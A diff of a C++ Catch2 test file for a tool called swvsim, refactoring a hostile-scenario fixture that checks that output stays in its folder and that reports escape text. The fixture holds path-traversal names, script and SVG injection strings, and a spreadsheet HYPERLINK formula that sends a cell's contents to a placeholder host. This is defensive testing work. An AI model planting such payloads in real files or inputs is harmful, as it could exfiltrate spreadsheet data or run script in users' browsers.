@@ -1,4 +1,4 @@
-// Hostile text in a scenario (issue "Reliability", point 6): names with path separators, "../",
+// Hostile text in a scenario (docs/betrouwbaarheid.md): names with path separators, "../",
 // HTML/JS and spreadsheet formulas. `swvsim run` writes only its fixed file names, and only inside
 // the --uit folder (or uitvoer/<slug>/ without it); the text reaches the reports escaped.
 #include <catch2/catch.hpp>
@@ -18,19 +18,13 @@ namespace {
 
 namespace fs = std::filesystem;
 
-const char* kHostile = R"(schema = "swvsim/1"
-[swv]
-naam = '../../buiten/<script>alert("naam")</script>/..\..\x'
+// The minimal scenario (helpers.cpp) with a hostile name and description, and hostile posts and risks.
+std::string hostile_scenario() {
+  std::string s = swv::test::kMinimalPo;
+  swv::test::replace_all(s, "naam = \"Test\"\n", R"(naam = '../../buiten/<script>alert("naam")</script>/..\..\x'
 omschrijving = "</style><script>alert(1)</script> & ../../etc/passwd"
-sector = "po"
-eerste_jaar = 2025
-laatste_jaar = 2027
-regels = "regels.toml"
-[start]
-eigen_vermogen = 1_000_000
-[start.leerlingen]
-regulier = 1000
-[[post]]
+)");
+  return s + R"([[post]]
 code = "../1"
 naam = '=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")'
 kant = "lasten"
@@ -47,13 +41,10 @@ naam = "+1+1 <svg onload=alert(3)>"
 kans = 0.1
 impact = 10_000
 )";
-
-std::string read_text(const fs::path& p) {
-  std::ifstream in(p, std::ios::binary);
-  std::stringstream ss;
-  ss << in.rdbuf();
-  return ss.str();
 }
+const std::string kHostile = hostile_scenario();
+
+std::string read_text(const fs::path& p) { return swv::test::slurp(p.string()); }
 
 // Every file below `root`, relative to it.
 std::set<std::string> listing(const fs::path& root) {
@@ -65,8 +56,7 @@ std::set<std::string> listing(const fs::path& root) {
 
 int run_in(const fs::path& cwd, const std::string& args) {
   std::string cmd = "cd '" + cwd.string() + "' && '" + SWVSIM_BINARY + "' " + args + " >'" + (cwd / "uitvoer.log").string() + "' 2>&1";
-  int rc = std::system(cmd.c_str());
-  return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
+  return swv::test::run_shell(cmd);
 }
 
 const std::set<std::string> kReports = {"resultaat.json", "rapport.html", "rapport.xlsx", "resultaat.csv", "resultaat-nl.csv",
